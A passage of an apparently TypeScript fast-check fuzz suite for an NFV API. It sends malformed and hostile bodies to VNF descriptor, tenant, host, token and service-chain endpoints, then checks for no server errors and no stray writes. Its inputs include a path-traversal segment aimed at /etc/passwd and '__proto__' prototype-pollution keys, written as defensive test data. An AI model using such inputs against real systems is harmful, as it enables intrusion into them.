  { weight: 1, arbitrary: fc.tuple(jsonType, hostFields, hostileKey, hostileValue).map(([type, fields, k, v]) => ({ type, body: toJsonText(withOwn({ ...fields }, k, v)) })) },
  { weight: 1, arbitrary: fc.tuple(jsonType, fc.oneof(fc.anything(), fc.jsonValue())).map(([type, v]) => ({ type, body: toJsonText(v) })) },
  { weight: 1, arbitrary: fc.tuple(anyType, hostileText).map(([type, body]) => ({ type, body })) },
);
const hostPatchBody: fc.Arbitrary<{ type: string; body: string }> = fc.tuple(
  jsonType,
  fc.record({ enabled: fc.oneof(fc.boolean(), hostileValue), physnets: physnetsValue, reservedCpus: cpuListValue, pmdQueueCapacity: fc.oneof(fc.integer({ min: -2, max: 100 }), hostileValue), name: nameValue }, { requiredKeys: [] }),
).map(([type, fields]) => ({ type, body: toJsonText(fields) }));

// ---- PATCH ------------------------------------------------------------------------------------

const stateValue = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom('ENABLED', 'DISABLED') },
  { weight: 2, arbitrary: fc.constantFrom('enabled', 'Disabled', ' ENABLED', 'ENABLED ', 'ENABLED\n', 'ENABLED\u0000', 'ON', 'OFF', '', 'IN_USE', '__proto__', 'constructor', 'toString') },
  { weight: 3, arbitrary: hostileValue },
);
const patchBody: fc.Arbitrary<{ type: string; body: string }> = fc.oneof(
  { weight: 4, arbitrary: fc.tuple(jsonType, stateValue).map(([type, s]) => ({ type, body: toJsonText({ operationalState: s }) })) },
  {
    weight: 2,
    arbitrary: fc
      .tuple(jsonType, stateValue, fc.dictionary(hostileKey, hostileValue, { minKeys: 1, maxKeys: 3 }))
      .map(([type, s, extra]) => ({ type, body: toJsonText(withOwn({ ...extra }, 'operationalState', s)) })),
  },
  { weight: 1, arbitrary: fc.tuple(jsonType, stateValue).map(([type, s]) => ({ type, body: toJsonText([{ operationalState: s }]) })) },
  { weight: 2, arbitrary: fc.tuple(jsonType, fc.oneof(fc.anything(), fc.jsonValue())).map(([type, v]) => ({ type, body: toJsonText(v) })) },
  { weight: 2, arbitrary: fc.tuple(anyType, hostileText).map(([type, body]) => ({ type, body })) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...OTHER_TYPES), stateValue).map(([type, s]) => ({ type, body: toJsonText({ operationalState: s }) })) },
);
/** Which descriptor the PATCH names: mostly the real one, sometimes a hostile or unknown id. */
type Target = { kind: 'real'; upper: boolean } | { kind: 'other'; id: string } | { kind: 'raw'; segment: string };
const patchTarget: fc.Arbitrary<Target> = fc.oneof(
  { weight: 12, arbitrary: fc.boolean().map((upper) => ({ kind: 'real' as const, upper })) },
  { weight: 2, arbitrary: fc.uuid().map((id) => ({ kind: 'other' as const, id })) },
  { weight: 4, arbitrary: hostileString.filter((s) => s.length > 0 && s.length < 2000).map((id) => ({ kind: 'other' as const, id })) },
  {
    weight: 1,
    arbitrary: fc
      .constantFrom('%', '%zz', '%E0%A4%A', '%C0%AF', '%ED%A0%80', '%FF', '%00', '..', '%2e%2e', '%2F..%2F..%2Fetc%2Fpasswd', '%252F', ';x=1', 'x?y=1')
      .map((segment) => ({ kind: 'raw' as const, segment })),
  },
);

/** Percent-encodes every byte but the unreserved ones (an unpaired surrogate goes out as U+FFFD). */
function encodeSegment(text: string): string {
  return [...Buffer.from(text, 'utf8')].map((b) => (/[A-Za-z0-9._~-]/.test(String.fromCharCode(b)) ? String.fromCharCode(b) : `%${b.toString(16).toUpperCase().padStart(2, '0')}`)).join('');
}

// ---- Service chains -----------------------------------------------------------------------------

/** The records the chain properties steer through, filled in by their beforeAll. */
const chainIds = { host: '', a: '', b: '', c: '', sriov: '' };
/** A UUID no instance has. */
const UNKNOWN_INSTANCE = '00000000-0000-4000-8000-00000000dead';
/** The VLAN the fuzz instances' VMs are on: the operator's tenant may steer that network. */
const CHAIN_VLAN = 3409;
let chainPortCounter = 0;
/** A destination port no other accepted chain of a run has (accepted chains are removed after each run anyway). */
const nextChainPort = () => 1024 + (chainPortCounter++ % 60_000);

const chainNet = (port: string) => ({ host: chainIds.host, bridge: 'br-int', vlan: CHAIN_VLAN, port });
const chainHop = (id: string, ingressCpd = 'left', egressCpd = 'right') => ({ instances: [{ vnfInstanceId: id, ingressCpd, egressCpd }] });

/** A chain the API accepts (with a fresh name and destination port). */
function validChain(suffix: string, port: number): Record<string, unknown> {
  return {
    name: `fz-${suffix}`,
    description: 'fuzzed chain',
    ingress: chainNet('fz-in'),
    egress: chainNet('fz-out'),
    classifier: { ethertype: 'ipv4', sourcePrefix: '10.31.0.0/16', destinationPrefix: '10.32.0.0/24', protocol: 17, sourcePorts: { from: 0, to: 65535 }, destinationPorts: { from: port, to: port } },
    hops: [chainHop(chainIds.a), { instances: [{ vnfInstanceId: chainIds.b, ingressCpd: 'left', egressCpd: 'right' }, { vnfInstanceId: chainIds.c, ingressCpd: 'left', egressCpd: 'right' }] }],
    symmetric: false,
    failMode: 'closed',
    priority: 0,
  };
}

const CHAIN_SHAPE = validChain('shape', 1);
const CHAIN_ALL_PATHS = pathsOf(CHAIN_SHAPE).filter((p) => p.length > 0);
const CHAIN_LEAF_PATHS = CHAIN_ALL_PATHS.filter((p) => !isContainer(valueAt(CHAIN_SHAPE, p)));
const CHAIN_CONTAINER_PATHS = pathsOf(CHAIN_SHAPE).filter((p) => isContainer(valueAt(CHAIN_SHAPE, p)));

const ADDRESSES = [
  '10.0.0.0/8', '10.0.0.1/24', '10.0.0.1', '0.0.0.0/0', '255.255.255.255/32', '256.1.1.1/8', '10.0.0.0/33', '10.0.0.0/-1', '10.0.0.0/', '/8', '010.000.000.000/8',
  '1.2.3', '::/0', 'fd00::/64', 'fd00::1/64', 'fd00::/129', '::ffff:10.0.0.0/104', '::ffff:10.0.0.1', 'fe80::1%eth0/64', '2001:db8::/32', ':::/0', '10.0.0.0/8 ', ' 10.0.0.0/8', '10.0.0.0\u0000/8',
];
const CHAIN_NUMBERS = [-1, 0, 1, 6, 17, 132, 255, 256, 4094, 4095, 65535, 65536, 32767, 32768, 1.5, -0, 1e21, 2 ** 53, Number.MAX_SAFE_INTEGER + 2];
/** A value where a chain has one: addresses, ranges, ids of the fuzz instances (the SR-IOV one too), cpds. */
const chainLeaf: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...ADDRESSES) },
  { weight: 3, arbitrary: fc.constantFrom(...CHAIN_NUMBERS) },
  { weight: 2, arbitrary: fc.constantFrom('a', 'b', 'c', 'sriov', 'unknown', 'upper').map((k) => (k === 'unknown' ? UNKNOWN_INSTANCE : k === 'upper' ? chainIds.a.toUpperCase() : chainIds[k as 'a' | 'b' | 'c' | 'sriov'])) },
  { weight: 2, arbitrary: fc.constantFrom('ipv4', 'ipv6', 'IPv4', 'arp', 'left', 'right', 'left-int', 'nowhere', 'br-int', 'br-ex', 'closed', 'open', 'CLOSED', '', 'fz-in', 'fz-out') },
  { weight: 1, arbitrary: fc.uuid() },
  { weight: 2, arbitrary: fc.tuple(fc.integer({ min: -2, max: 65537 }), fc.integer({ min: -2, max: 65537 })).map(([from, to]) => ({ from, to })) },
  { weight: 1, arbitrary: fc.constantFrom({ from: 10, to: 5 }, { from: '1', to: '2' }, { from: 1 }, { to: 1 }, { from: null, to: null }, [1, 2], '1-2', '80') },
);
/** Whole hop lists: duplicates, the SR-IOV instance, too many hops or instances, garbage inside. */
const hopsValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom('dup-hop', 'dup-instance', 'sriov', 'reversed', 'one-armed', 'unknown', 'too-many-hops', 'max-hops', 'too-many-instances', 'empty-instances', 'empty', 'null-instance').map((kind) => {
    const a = chainHop(chainIds.a);
    switch (kind) {
      case 'dup-hop': return [a, chainHop(chainIds.a)];
      case 'dup-instance': return [{ instances: [...a.instances, ...a.instances] }];
      case 'sriov': return [chainHop(chainIds.sriov)];
      case 'reversed': return [chainHop(chainIds.b, 'right', 'left')];
      case 'one-armed': return [chainHop(chainIds.b, 'left', 'left')];
      case 'unknown': return [chainHop(UNKNOWN_INSTANCE)];
      case 'too-many-hops': return Array.from({ length: 129 }, (_, i) => chainHop([chainIds.a, chainIds.b, chainIds.c][i % 3]!));
      case 'max-hops': return Array.from({ length: 128 }, (_, i) => chainHop([chainIds.a, chainIds.b, chainIds.c][i % 3]!));
      case 'too-many-instances': return [{ instances: Array.from({ length: 65 }, () => a.instances[0]) }];
      case 'empty-instances': return [{ instances: [] }];
      case 'empty': return [];
      default: return [{ instances: [null] }];
    }
  }),
  fc.array(fc.oneof(fc.constant(null), hostileValue, fc.record({ instances: fc.oneof(hostileValue, fc.array(fc.record({ vnfInstanceId: chainLeaf, ingressCpd: fc.oneof(chainLeaf, hostileString), egressCpd: chainLeaf }, { requiredKeys: [] }), { maxLength: 3 })) }, { requiredKeys: [] })), { maxLength: 4 }),
);
/** A chain end: a network, a connection point, a mix of both, or garbage. */
const pointValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.record({ host: fc.oneof(fc.constant('@host'), hostileString), bridge: fc.oneof(fc.constant('br-int'), hostileString), vlan: fc.oneof(fc.constantFrom(CHAIN_VLAN, 0, 4095, 1), hostileValue), port: fc.oneof(fc.constantFrom('fz-in', 'vhu-fz-a-l', 'fz-out'), hostileString), vnfInstanceId: chainLeaf, cpdId: fc.oneof(fc.constantFrom('left', 'right'), hostileString) }, { requiredKeys: [] }).map((p) => (p.host === '@host' ? { ...p, host: chainIds.host } : p)),
  hostileValue,
  reservedKeyedObject,
);
const chainValue: fc.Arbitrary<unknown> = fc.oneof({ weight: 3, arbitrary: chainLeaf }, { weight: 3, arbitrary: hostileValue });

/** Mutations of a document of this shape: leaves set to chain-ish or hostile values, keys added (reserved ones too) or removed, nodes wrapped, raw numbers. */
function mutationsOf(all: Path[], leaves: Path[], containers: Path[], value: fc.Arbitrary<unknown>, extra: fc.Arbitrary<Mutation>[] = []): fc.Arbitrary<Mutation[]> {
  const one: fc.Arbitrary<Mutation> = fc.oneof(
    { weight: 5, arbitrary: fc.record({ kind: fc.constant('set' as const), path: fc.constantFrom(...leaves), value }) },
    { weight: 1, arbitrary: fc.record({ kind: fc.constant('set' as const), path: fc.constantFrom(...all), value }) },
    { weight: 1, arbitrary: fc.record({ kind: fc.constant('delete' as const), path: fc.constantFrom(...all) }) },
    { weight: 2, arbitrary: fc.record({ kind: fc.constant('add' as const), path: fc.constantFrom(...containers), key: hostileKey, value }) },
    { weight: 1, arbitrary: fc.record({ kind: fc.constant('wrap' as const), path: fc.constantFrom(...all), how: fc.constantFrom('array' as const, 'object' as const) }) },
    { weight: 1, arbitrary: fc.record({ kind: fc.constant('raw' as const), path: fc.constantFrom(...leaves), text: fc.constantFrom(...RAW_JSON_NUMBERS) }) },
    ...extra.map((arbitrary) => ({ weight: 2, arbitrary })),
  );
  return fc.array(one, { minLength: 1, maxLength: 3 });
}

const chainMutations = mutationsOf(CHAIN_ALL_PATHS, CHAIN_LEAF_PATHS, CHAIN_CONTAINER_PATHS, chainValue, [
  fc.record({ kind: fc.constant('set' as const), path: fc.constant<Path>(['hops']), value: hopsValue }),
  fc.record({ kind: fc.constant('set' as const), path: fc.constantFrom<Path>(['ingress'], ['egress']), value: pointValue }),
  fc.record({ kind: fc.constant('set' as const), path: fc.constantFrom<Path>(['classifier', 'ethertype']), value: fc.constant('ipv6') }),
  fc.record({ kind: fc.constant('add' as const), path: fc.constant<Path>([]), key: fc.constantFrom('__proto__', 'constructor', 'toString', 'id', 'state', 'generation', 'cookie', 'tenantId'), value: chainValue }),
]);

/** The mutated document as JSON text, raw numbers substituted. */
function withRaws(doc: unknown, raws: string[]): string {
  return raws.reduce((text, raw, i) => text.split(`"${RAW_MARK(i)}"`).join(raw), toJsonText(doc));
}

/** POST /service_chains bodies: valid ones, near-valid ones, any JSON value, hostile text. */
const chainCreateBody: fc.Arbitrary<{ type: string; body: string; valid: boolean }> = fc.oneof(
  { weight: 2, arbitrary: fc.tuple(jsonType, uniqueSuffix).map(([type, suffix]) => ({ type, body: toJsonText(validChain(suffix, nextChainPort())), valid: true })) },
  {
    weight: 10,
    arbitrary: fc.tuple(jsonType, uniqueSuffix, chainMutations).map(([type, suffix, list]) => {
      const { doc, raws } = mutateDoc(validChain(suffix, nextChainPort()), list);
      return { type, body: withRaws(doc, raws), valid: false };
    }),
  },
  { weight: 1, arbitrary: fc.tuple(jsonType, fc.oneof(fc.jsonValue(), fc.anything({ withNullPrototype: true }), hostileValue)).map(([type, v]) => ({ type, body: toJsonText(v), valid: false })) },
  { weight: 1, arbitrary: fc.tuple(anyType, hostileText).map(([type, body]) => ({ type, body, valid: false })) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...OTHER_TYPES), uniqueSuffix).map(([type, suffix]) => ({ type, body: toJsonText(validChain(suffix, nextChainPort())), valid: false })) },
);

/** PATCH bodies: some of the changeable fields, valid or mutated, and fields that may not change. */
const CHANGE_FIELDS = ['classifier', 'hops', 'failMode', 'priority', 'symmetric', 'description'] as const;
const chainPatchBody: fc.Arbitrary<{ type: string; body: string }> = fc.oneof(
  {
    weight: 8,
    arbitrary: fc
      .tuple(jsonType, uniqueSuffix, fc.subarray([...CHANGE_FIELDS], { minLength: 1 }), fc.option(chainMutations, { nil: undefined }), fc.option(fc.constantFrom('name', 'ingress', 'egress', 'id', 'state', '__proto__', 'constructor'), { freq: 4, nil: undefined }), chainValue)
      .map(([type, suffix, fields, list, forbidden, value]) => {
        const full = validChain(suffix, nextChainPort());
        full.failMode = 'open';
        full.priority = 7;
        full.symmetric = true;
        full.description = `changed ${suffix}`;
        const { doc, raws } = list ? mutateDoc(full, list) : { doc: full, raws: [] };
        const picked: Record<string, unknown> = {};
        if (isObject(doc)) for (const f of fields) if (f in doc) picked[f] = doc[f];
        if (forbidden) withOwn(picked, forbidden, value);
        return { type, body: withRaws(picked, raws) };
      }),
  },
  { weight: 1, arbitrary: fc.tuple(jsonType, fc.oneof(fc.jsonValue(), fc.anything(), hostileValue)).map(([type, v]) => ({ type, body: toJsonText(v) })) },
  { weight: 1, arbitrary: fc.tuple(anyType, hostileText).map(([type, body]) => ({ type, body })) },
);
const chainPatchTarget: fc.Arbitrary<Target> = fc.oneof(
  { weight: 12, arbitrary: fc.boolean().map((upper) => ({ kind: 'real' as const, upper })) },
  { weight: 1, arbitrary: fc.uuid().map((id) => ({ kind: 'other' as const, id })) },
  { weight: 1, arbitrary: hostileString.filter((s) => s.length > 0 && s.length < 2000).map((id) => ({ kind: 'other' as const, id })) },
);

/** The fixture NSD's nsd element (fw, fwd-a and fwd-b profiles; two classifiers). */
function fixtureNsd(): Record<string, unknown> {
  return (parseYaml(readFileSync('test/fixtures/nsds/fw-fwd-chain-nsd.yaml', 'utf8')) as { nsd: { nsd: Record<string, unknown>[] } }).nsd.nsd[0]!;
}
function validFromNsd(): Record<string, unknown> {
  return { nsd: fixtureNsd(), instances: { fw: chainIds.a, 'fwd-a': chainIds.b, 'fwd-b': chainIds.c }, ingress: chainNet('fz-nsd-in'), egress: chainNet('fz-nsd-out'), symmetric: false, failMode: 'closed' };
}
const NSD_SHAPE = { ...validFromNsd(), instances: { fw: 'x', 'fwd-a': 'x', 'fwd-b': 'x' }, ingress: chainNet('x'), egress: chainNet('x') };
const NSD_ALL_PATHS = pathsOf(NSD_SHAPE).filter((p) => p.length > 0);
const NSD_LEAF_PATHS = NSD_ALL_PATHS.filter((p) => !isContainer(valueAt(NSD_SHAPE, p)));
const NSD_CONTAINER_PATHS = pathsOf(NSD_SHAPE).filter((p) => isContainer(valueAt(NSD_SHAPE, p)));
const nsdMutations = mutationsOf(NSD_ALL_PATHS, NSD_LEAF_PATHS, NSD_CONTAINER_PATHS, chainValue, [
  fc.record({ kind: fc.constant('add' as const), path: fc.constant<Path>(['instances']), key: fc.constantFrom(...RESERVED_KEYS, 'fw', 'unknown-profile', ''), value: chainValue }),
  fc.record({ kind: fc.constant('set' as const), path: fc.constantFrom<Path>(['instances', 'fw'], ['instances', 'fwd-a'], ['instances', 'fwd-b']), value: fc.oneof(chainLeaf, fc.constantFrom('not-a-uuid', '', 'fw', '@a').map((v) => (v === '@a' ? chainIds.a : v))) }),
  fc.record({ kind: fc.constant('set' as const), path: fc.constantFrom<Path>(['instances'], ['nsd'], ['nsd', 'vnffgd'], ['nsd', 'df'], ['ingress'], ['egress']), value: fc.oneof(pointValue, reservedKeyedObject, hostileValue) }),
  // Nodes of the forwarding graph emptied or replaced by scalars: null, [], {}, 0, a string.
  fc.record({ kind: fc.constant('set' as const), path: fc.constantFrom(...NSD_ALL_PATHS.filter((p) => p[0] === 'nsd' && p[1] === 'vnffgd' && isContainer(valueAt(NSD_SHAPE, p)))), value: fc.constantFrom(null, [], {}, 0, 'x', [null], [{}]) }),
]);
const fromNsdBody: fc.Arbitrary<{ type: string; body: string }> = fc.oneof(
  { weight: 1, arbitrary: jsonType.map((type) => ({ type, body: toJsonText(validFromNsd()) })) },
  { weight: 10, arbitrary: fc.tuple(jsonType, nsdMutations).map(([type, list]) => { const { doc, raws } = mutateDoc(validFromNsd(), list); return { type, body: withRaws(doc, raws) }; }) },
  { weight: 1, arbitrary: fc.tuple(anyType, hostileText).map(([type, body]) => ({ type, body })) },
);

/** Packets to trace: well-formed, mixed families, ports on portless protocols, garbage. */
const tracePacket: fc.Arbitrary<{ type: string; body: string }> = fc.oneof(
  {
    weight: 6,
    arbitrary: fc
      .tuple(
        jsonType,
        fc.record(
          {
            ethertype: fc.oneof(fc.constantFrom('ipv4', 'ipv6'), chainValue),
            source: fc.oneof(fc.ipV4(), fc.ipV6(), fc.constantFrom(...ADDRESSES), hostileValue),
            destination: fc.oneof(fc.ipV4(), fc.ipV6(), fc.constantFrom(...ADDRESSES), hostileValue),
            protocol: fc.oneof(fc.constantFrom(1, 6, 17, 132, 58), fc.integer({ min: -1, max: 256 }), hostileValue),
            sourcePort: fc.oneof(fc.integer({ min: -1, max: 65536 }), hostileValue),
            destinationPort: fc.oneof(fc.integer({ min: -1, max: 65536 }), hostileValue),
          },
          { requiredKeys: [] },
        ),
        fc.option(fc.dictionary(hostileKey, hostileValue, { minKeys: 1, maxKeys: 2 }), { freq: 5, nil: undefined }),
      )
      .map(([type, packet, extra]) => ({ type, body: toJsonText(extra ? Object.assign(packet, extra) : packet) })),
  },
  { weight: 2, arbitrary: fc.tuple(jsonType, fc.ipV4(), fc.ipV4(), fc.constantFrom(6, 17, 132), fc.integer({ min: 0, max: 65535 })).map(([type, source, destination, protocol, port]) => ({ type, body: toJsonText({ ethertype: 'ipv4', source, destination, protocol, destinationPort: port }) })) },
  { weight: 1, arbitrary: fc.tuple(anyType, hostileText).map(([type, body]) => ({ type, body })) },
);

// ---- Checks -----------------------------------------------------------------------------------

interface Sent {
  method: 'POST' | 'PATCH';
  url: string;
  contentType: string;
  body: string;
}

let requestCount = 0;
/** Answers by endpoint and status, printed at the end: shows the fuzzing reached past validation. */
const statuses = new Map<string, number>();

function show(text: string, max = 600): string {
  const json = JSON.stringify(text);
  return json.length > max ? `${json.slice(0, max)}… (${text.length} chars)` : json;
}

function exchange(sent: Sent, res: request.Response | undefined): string {
  const lines = [`request:  ${sent.method} ${show(sent.url, 300)}`, `          content-type: ${sent.contentType}`, `          body: ${show(sent.body)}`];
  if (res) lines.push(`response: ${res.status} ${String(res.headers['content-type'] ?? '')}`, `          ${show(res.text ?? '', 1200)}`);
  return lines.join('\n');
}

function fail(why: string, sent: Sent, res?: request.Response): never {
  throw new Error(`${why}\n${exchange(sent, res)}`);
}

/** The route a URL reached, for the figures (ids folded). */
function routeOf(url: string): string {
  if (url.startsWith('/api/v1/vnfds/')) return '/api/v1/vnfds/:id';
  if (url === '/api/v1/service_chains/from_nsd') return url;
  if (/^\/api\/v1\/service_chains\/[^/]+\/trace$/.test(url)) return '/api/v1/service_chains/:id/trace';
  if (url.startsWith('/api/v1/service_chains/')) return '/api/v1/service_chains/:id';
  return url;
}

async function send(http: Client, sent: Sent): Promise<request.Response> {
  requestCount++;
  const call = sent.method === 'POST' ? http.post(sent.url) : http.patch(sent.url);
  try {
    const res = await call.set('content-type', sent.contentType).send(sent.body);
    const key = `${sent.method} ${routeOf(sent.url)} ${res.status}`;
    statuses.set(key, (statuses.get(key) ?? 0) + 1);
    return res;
  } catch (error) {
    fail(`the request itself failed: ${String(error)}`, sent);
  }
}

const isObject = (v: unknown): v is Record<string, unknown> => typeof v === 'object' && v !== null && !Array.isArray(v);

/** Never a 5xx; every 4xx a problem document whose `errors` name JSON pointers. */
function checkResponse(sent: Sent, res: request.Response): void {
  if (res.status >= 500) fail(`server error ${res.status}`, sent, res);
  // A 429 means the request never reached the code under test: the fuzzing would prove nothing.
  if (res.status === 429) fail('rate limited: raise RATE_LIMIT_PER_MINUTE or use more tokens', sent, res);
  if (res.status < 400) return;
  const type = String(res.headers['content-type'] ?? '');
  if (!/^application\/problem\+json(;|$)/.test(type)) fail('a 4xx that is not application/problem+json', sent, res);
  let problem: unknown;
  try {
    problem = JSON.parse(res.text);
  } catch {
    fail('a problem document that is not JSON', sent, res);
  }
  if (!isObject(problem)) fail('a problem document that is not an object', sent, res);
  if (!('errors' in problem)) return;
  if (!Array.isArray(problem.errors)) fail('errors is not an array', sent, res);
  for (const entry of problem.errors as unknown[]) {
    if (!isObject(entry)) fail('an errors entry that is not an object', sent, res);
    if (typeof entry.path !== 'string' || !(entry.path === '' || entry.path.startsWith('/'))) fail(`an errors entry without a JSON pointer path: ${toJsonText(entry)}`, sent, res);
    if (typeof entry.message !== 'string') fail(`an errors entry without a string message: ${toJsonText(entry)}`, sent, res);
  }
}

// ---- The suite --------------------------------------------------------------------------------

describe('fuzzing the write endpoints', () => {
  let app: INestApplication;
  let db: DataSource;
  let operator: Client;
  let admin: Client;
  let targetId: string;

  const count = async (table: 'vnf_descriptors' | 'tenants' | 'api_tokens' | 'hosts'): Promise<number> =>
    Number((await db.query(`SELECT count(*) AS n FROM ${table}`))[0].n);

  /** Sends, checks the answer, and checks that exactly the accepted requests stored one row. */
  async function sendCounting(http: Client, table: 'vnf_descriptors' | 'tenants' | 'api_tokens' | 'hosts', sent: Sent): Promise<request.Response> {
    const before = await count(table);
    const res = await send(http, sent);
    checkResponse(sent, res);
    const after = await count(table);
    const expected = res.status === 201 ? before + 1 : before;
    if (res.status !== 201 && res.status >= 200 && res.status < 300) fail(`an unexpected success status ${res.status}`, sent, res);
    if (after !== expected) fail(`${table} had ${before} rows, now ${after} (expected ${expected} after a ${res.status})`, sent, res);
    return res;
  }

  beforeAll(async () => {
    // Thousands of requests a minute: a per-token rate limit (where there is one) must not answer
    // them in place of the handlers under test. Each test also gets tokens of its own.
    process.env.RATE_LIMIT_PER_MINUTE = '1000000';
    app = await startApi();
    db = app.get(DataSource);
    operator = client(app, await tokenFor(app, Role.OPERATOR));
    const created = await operator.post('/api/v1/vnfds').set('content-type', 'application/json').send(JSON.stringify(minimalVnfd('patch-target')));
    if (created.status !== 201) throw new Error(`could not onboard the PATCH target: ${created.status} ${created.text}`);
    targetId = created.body.id as string;
  });

  beforeEach(async () => {
    operator = client(app, await tokenFor(app, Role.OPERATOR));
    admin = client(app, await tokenFor(app, Role.PLATFORM_ADMIN));
  });

  afterAll(async () => {
    await app?.close();
    // eslint-disable-next-line no-console
    console.log(`fuzz: ${requestCount} requests sent\n${[...statuses].sort().map(([k, n]) => `  ${k}: ${n}`).join('\n')}`);
  });

  describe('POST /api/v1/vnfds', () => {
    test(
      'arbitrary JSON values',
      async () => {
        await fc.assert(
          fc.asyncProperty(jsonType, fc.oneof(fc.jsonValue(), fc.anything({ withNullPrototype: true, withSparseArray: true }), hostileValue), async (type, value) => {
            await sendCounting(operator, 'vnf_descriptors', { method: 'POST', url: '/api/v1/vnfds', contentType: type, body: toJsonText(value) });
          }),
          { numRuns: RUNS.vnfdJsonValues },
        );
      },
      PROPERTY_TIMEOUT_MS,
    );

    test(
      'raw hostile text: deep nesting, huge numbers, broken JSON, control characters, any content type',
      async () => {
        await fc.assert(
          fc.asyncProperty(anyType, hostileText, async (type, body) => {
            await sendCounting(operator, 'vnf_descriptors', { method: 'POST', url: '/api/v1/vnfds', contentType: type, body });
          }),
          { numRuns: RUNS.vnfdRawText },
        );
      },
      PROPERTY_TIMEOUT_MS,
    );

    test(
      'a valid VNFD with random leaves replaced, keys added or removed (JSON)',
      async () => {
        await fc.assert(
          fc.asyncProperty(jsonType, uniqueSuffix, mutations, async (type, suffix, list) => {
            await sendCounting(operator, 'vnf_descriptors', { method: 'POST', url: '/api/v1/vnfds', contentType: type, body: mutatedJson(suffix, list) });
          }),
          { numRuns: RUNS.vnfdMutatedJson },
        );
      },
      PROPERTY_TIMEOUT_MS,
    );

    test(
      'YAML: mutated VNFDs, tags, anchors and alias bombs, several documents, deep nesting',
      async () => {
        await fc.assert(
          fc.asyncProperty(yamlType, yamlBody, async (type, body) => {
            await sendCounting(operator, 'vnf_descriptors', { method: 'POST', url: '/api/v1/vnfds', contentType: type, body });
          }),
          { numRuns: RUNS.vnfdYaml },
        );
      },
      PROPERTY_TIMEOUT_MS,
    );
  });

  describe('PATCH /api/v1/vnfds/:id', () => {
    test(
      'hostile bodies and ids change nothing unless accepted',
      async () => {
        const stateOf = async (): Promise<{ operationalState: string; updatedAt: string }> =>
          (await db.query(`SELECT "operationalState", "updatedAt"::text AS "updatedAt" FROM vnf_descriptors WHERE id = $1`, [targetId]))[0];
        await fc.assert(
          fc.asyncProperty(patchTarget, patchBody, async (target, { type, body }) => {
            const id = target.kind === 'real' ? (target.upper ? targetId.toUpperCase() : targetId) : target.kind === 'raw' ? target.segment : encodeSegment(target.id);
            const sent: Sent = { method: 'PATCH', url: `/api/v1/vnfds/${id}`, contentType: type, body };
            const before = await stateOf();
            const rows = await count('vnf_descriptors');
            const res = await send(operator, sent);
            checkResponse(sent, res);
            const after = await stateOf();
            if ((await count('vnf_descriptors')) !== rows) fail('PATCH changed the number of descriptors', sent, res);
            if (res.status === 200) {
              if (target.kind !== 'real') fail('PATCH of another id succeeded', sent, res);
              if (res.body.operationalState !== after.operationalState) fail(`answered ${String(res.body.operationalState)}, stored ${after.operationalState}`, sent, res);
              if (after.operationalState === before.operationalState && after.updatedAt !== before.updatedAt) fail('an unchanged state moved updatedAt', sent, res);
            } else {
              if (res.status < 400) fail(`an unexpected status ${res.status}`, sent, res);
              if (after.operationalState !== before.operationalState || after.updatedAt !== before.updatedAt) {
                fail(`a rejected PATCH changed the row: ${toJsonText(before)} -> ${toJsonText(after)}`, sent, res);
              }
            }
          }),
          { numRuns: RUNS.patch },
        );
      },
      PROPERTY_TIMEOUT_MS,
    );
  });

  describe('POST /api/v1/tenants', () => {
    test(
      'hostile names and bodies store a tenant only when accepted',
      async () => {
        await fc.assert(
          fc.asyncProperty(tenantBody, async ({ type, body }) => {
            await sendCounting(admin, 'tenants', { method: 'POST', url: '/api/v1/tenants', contentType: type, body });
          }),
          { numRuns: RUNS.tenants },
        );
      },
      PROPERTY_TIMEOUT_MS,
    );
  });

  describe('POST /api/v1/hosts and PATCH /api/v1/hosts/:id', () => {
    test(
      'hostile names, URIs, remotes, physnet maps and CPU lists store a host only when accepted',
      async () => {
        await fc.assert(
          fc.asyncProperty(hostBody, async ({ type, body }) => {
            await sendCounting(admin, 'hosts', { method: 'POST', url: '/api/v1/hosts', contentType: type, body });
          }),
          { numRuns: RUNS.hosts },
        );
      },
      PROPERTY_TIMEOUT_MS,
    );

    test(
      'a rejected PATCH leaves the host as it was',
      async () => {
        const [host] = await db.query(`INSERT INTO hosts (name, "libvirtUri", "ovsdbRemote") VALUES ('fuzz-target', 'test:///default', 'tcp:127.0.0.1:6640') RETURNING id`);
        const rowOf = async () => JSON.stringify((await db.query(`SELECT * FROM hosts WHERE id = $1`, [host.id]))[0]);
        await fc.assert(
          fc.asyncProperty(hostPatchBody, async ({ type, body }) => {
            const sent: Sent = { method: 'PATCH', url: `/api/v1/hosts/${host.id}`, contentType: type, body };
            const before = await rowOf();
            const res = await send(admin, sent);
            checkResponse(sent, res);
            if (res.status >= 400 && (await rowOf()) !== before) fail('a rejected PATCH changed the host', sent, res);
            if (res.status < 400 && res.status !== 200) fail(`an unexpected status ${res.status}`, sent, res);
          }),
          { numRuns: RUNS.hostPatch },
        );
      },
      PROPERTY_TIMEOUT_MS,
    );
  });

  describe('POST /api/v1/tokens', () => {
    test(
      'hostile tenant ids, names, roles and dates store a token only when accepted',
      async () => {
        await fc.assert(
          fc.asyncProperty(tokenBody, async ({ type, body }) => {
            await sendCounting(admin, 'api_tokens', { method: 'POST', url: '/api/v1/tokens', contentType: type, body });
          }),
          { numRuns: RUNS.tokens },
        );
      },
      PROPERTY_TIMEOUT_MS,
    );
  });

  describe('service chains', () => {
    const tag = Math.random().toString(36).slice(2, 8);
    let queue: Queue;
    const instanceIds: string[] = [];
    const vhost = (cpd: string, name: string) => ({ cpdId: `${cpd}-int`, extCpdId: cpd, kind: 'vhostuser', name, bridge: 'br-int', vlan: CHAIN_VLAN });
    const CHAIN_TABLES = ['service_chains', 'chain_hops', 'chain_op_occs'] as const;
    const counts = async (): Promise<number[]> => Promise.all(CHAIN_TABLES.map(async (t) => Number((await db.query(`SELECT count(*) AS n FROM ${t}`))[0].n)));
    const hopRows = async (chainIds: string[]): Promise<number> => Number((await db.query(`SELECT count(*) AS n FROM chain_hops WHERE "chainId" = ANY($1::uuid[])`, [chainIds]))[0].n);
    const removeChains = async (ids: string[]): Promise<void> => {
      await db.query(`DELETE FROM chain_op_occs WHERE "chainId" = ANY($1::uuid[])`, [ids]);
      await db.query(`DELETE FROM service_chains WHERE id = ANY($1::uuid[])`, [ids]);
    };

